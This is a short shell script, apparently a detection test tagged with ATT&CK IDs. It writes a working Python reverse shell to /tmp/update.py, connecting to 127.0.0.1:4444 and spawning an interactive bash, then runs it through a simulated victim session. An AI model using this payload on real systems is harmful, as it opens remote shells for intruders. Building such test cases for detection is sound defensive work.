# The same from a script file: nothing in the arguments tells, only the order connection, shell, terminal.
# ATT&CK: T1059.006, T1059.004, T1071
. ./session.sh
cat > /tmp/update.py <<'CODE'
import os
import pty
import socket

s = socket.create_connection(("127.0.0.1", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn(["/bin/bash", "-i"])
CODE
victim_connects python3 /tmp/update.py <<'TYPED'
id
tty
exit
TYPED
